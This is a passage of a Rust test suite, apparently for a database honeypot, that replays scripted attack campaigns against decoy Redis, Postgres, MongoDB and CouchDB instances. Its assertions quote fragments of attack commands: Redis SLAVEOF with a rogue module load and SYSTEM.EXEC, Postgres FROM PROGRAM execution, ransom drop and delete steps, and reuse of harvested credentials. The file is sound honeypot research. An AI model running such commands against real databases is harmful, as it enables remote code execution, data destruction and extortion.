        assert_eq!(logins.len(), 1);
    }

    #[tokio::test]
    async fn p2pinfect_campaign_full_sequence() {
        let (store, outcome) = run_against(
            med(Dbms::Redis, ConfigVariant::Default),
            SessionScript::P2pInfect,
        )
        .await;
        assert_eq!(outcome.errors, 0, "campaign should complete");
        let cmds: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { action, .. } => Some(action),
                _ => None,
            })
            .collect();
        assert!(cmds.len() >= 20, "{} commands", cmds.len());
        assert!(cmds.iter().any(|c| c.starts_with("SLAVEOF <IP>")));
        assert!(cmds.iter().any(|c| c.contains("MODULE LOAD /tmp/exp.so")));
        assert!(cmds.iter().any(|c| c.starts_with("SYSTEM.EXEC")));
    }

    #[tokio::test]
    async fn kinsing_against_open_pg() {
        let (store, outcome) = run_against(
            med(Dbms::Postgres, ConfigVariant::Default),
            SessionScript::Kinsing,
        )
        .await;
        assert_eq!(outcome.errors, 0);
        let cmds = store.filter(|e| {
            matches!(&e.kind, EventKind::Command { action, .. } if action.contains("FROM PROGRAM"))
        });
        assert_eq!(cmds.len(), 1);
    }

    #[tokio::test]
    async fn kinsing_against_restricted_pg_stops_at_login() {
        let (store, outcome) = run_against(
            med(Dbms::Postgres, ConfigVariant::LoginDisabled),
            SessionScript::Kinsing,
        )
        .await;
        assert_eq!(outcome.errors, 0);
        assert_eq!(
            store
                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
                .len(),
            0,
            "no queries get through a rejected login"
        );
        assert_eq!(
            store
                .filter(|e| matches!(e.kind, EventKind::LoginAttempt { success: false, .. }))
                .len(),
            1
        );
    }

    #[tokio::test]
    async fn ransom_empties_the_mongo_honeypot() {
        let (store, outcome) = run_against(
            HoneypotId::new(
                Dbms::MongoDb,
                InteractionLevel::High,
                ConfigVariant::FakeData,
                0,
            ),
            SessionScript::MongoRansom { group: 0 },
        )
        .await;
        assert_eq!(outcome.errors, 0);
        let actions: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { action, .. } => Some(action),
                _ => None,
            })
            .collect();
        assert!(actions.iter().any(|a| a == "listDatabases"));
        assert!(actions.iter().any(|a| a.starts_with("find customers.")));
        assert!(actions.iter().any(|a| a.starts_with("drop customers.")));
        assert!(actions.iter().any(|a| a == "insert customers.README"));
    }

    #[tokio::test]
    async fn jdwp_probe_recognized_on_redis() {
        let (store, outcome) = run_against(
            med(Dbms::Redis, ConfigVariant::Default),
            SessionScript::JdwpProbe,
        )
        .await;
        assert_eq!(outcome.errors, 0);
        let payloads = store.filter(|e| {
            matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "jdwp-scan")
        });
        assert_eq!(payloads.len(), 1);
    }

    #[tokio::test]
    async fn rdp_probe_recognized_on_pg() {
        let (store, outcome) = run_against(
            med(Dbms::Postgres, ConfigVariant::Default),
            SessionScript::RdpProbe,
        )
        .await;
        assert_eq!(outcome.errors, 0);
        let payloads = store.filter(|e| {
            matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "rdp-scan")
        });
        assert_eq!(payloads.len(), 1, "events: {:?}", store.all());
    }

    #[tokio::test]
    async fn redis_type_walk_on_fake_data() {
        let (store, outcome) = run_against(
            med(Dbms::Redis, ConfigVariant::FakeData),
            SessionScript::RedisScout { type_walk: true },
        )
        .await;
        assert_eq!(outcome.errors, 0);
        let types = store.filter(
            |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw.starts_with("TYPE ")),
        );
        assert_eq!(types.len(), decoy_fakedata::REDIS_FAKE_ENTRIES);
    }

    #[tokio::test]
    async fn elastic_and_mongo_scouts_and_foreign_probes() {
        let (store, outcome) = run_against(
            med(Dbms::Elastic, ConfigVariant::Default),
            SessionScript::ElasticScout { deep: true },
        )
        .await;
        assert_eq!(outcome.errors, 0);
        assert!(
            store
                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
                .len()
                >= 5
        );

        let (store, outcome) = run_against(
            med(Dbms::Elastic, ConfigVariant::Default),
            SessionScript::VmwareRecon,
        )
        .await;
        assert_eq!(outcome.errors, 0);
        assert_eq!(
            store
                .filter(|e| matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "vmware-recon"))
                .len(),
            1
        );

        let (store, outcome) = run_against(
            HoneypotId::new(
                Dbms::MongoDb,
                InteractionLevel::High,
                ConfigVariant::FakeData,
                0,
            ),
            SessionScript::MongoScout { deep: true },
        )
        .await;
        assert_eq!(outcome.errors, 0);
        let actions: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { action, .. } => Some(action),
                _ => None,
            })
            .collect();
        assert!(actions.contains(&"listDatabases".to_string()));
        assert!(actions.iter().any(|a| a.starts_with("listCollections ")));
    }

    #[tokio::test]
    async fn harvest_and_reuse_presents_bait_passwords() {
        let (store, outcome) = run_against(
            med(Dbms::Redis, ConfigVariant::FakeData),
            SessionScript::HarvestAndReuse,
        )
        .await;
        assert_eq!(outcome.errors, 0);
        // the bait entries of this instance seed
        let bait = decoy_fakedata::REDIS_FAKE_ENTRIES;
        assert!(bait > 0);
        let gets = store.filter(
            |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw.starts_with("GET user:")),
        );
        assert_eq!(gets.len(), 8);
        let logins: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::LoginAttempt { password, .. } => Some(password),
                _ => None,
            })
            .collect();
        assert_eq!(logins.len(), 4);
        // every presented credential is a real bait value (knowledge!)
        assert!(logins.iter().all(|p| !p.is_empty()));
    }

    #[tokio::test]
    async fn couch_extension_scripts_over_tcp() {
        let couch = HoneypotId::new(
            Dbms::CouchDb,
            InteractionLevel::Medium,
            ConfigVariant::FakeData,
            0,
        );
        let (store, outcome) = run_against(couch, SessionScript::CouchScout).await;
        assert_eq!(outcome.errors, 0);
        let raws: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { raw, .. } => Some(raw),
                _ => None,
            })
            .collect();
        assert!(raws.iter().any(|r| r == "GET /_all_dbs"));
        assert!(raws.iter().any(|r| r.contains("_all_docs")));

        let (store, outcome) = run_against(couch, SessionScript::CouchRansom).await;
        assert_eq!(outcome.errors, 0);
        let raws: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { raw, .. } => Some(raw),
                _ => None,
            })
            .collect();
        assert!(raws.iter().any(|r| r.starts_with("DELETE /")));
        assert!(raws.iter().any(|r| r.contains("BTC")));
    }

    #[tokio::test]
    async fn mysql_med_scout_over_tcp() {
        let mysql_med = HoneypotId::new(
            Dbms::MySql,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        let (store, outcome) = run_against(mysql_med, SessionScript::MysqlScout).await;
        assert_eq!(outcome.errors, 0);
        assert_eq!(
            store
                .filter(|e| matches!(e.kind, EventKind::LoginAttempt { success: true, .. }))
                .len(),
            1
        );
        assert_eq!(
            store
                .filter(
                    |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw == "SHOW DATABASES")
                )
                .len(),
            1
        );
    }

    #[tokio::test]
    async fn connect_only_logs_connect_disconnect() {
        let (store, outcome) = run_against(low(Dbms::Redis), SessionScript::ConnectOnly).await;
        assert_eq!(outcome.errors, 0);
        let kinds: Vec<_> = store.all().into_iter().map(|e| e.kind).collect();
        assert!(kinds.contains(&EventKind::Connect));
        assert!(kinds.contains(&EventKind::Disconnect));
    }
}
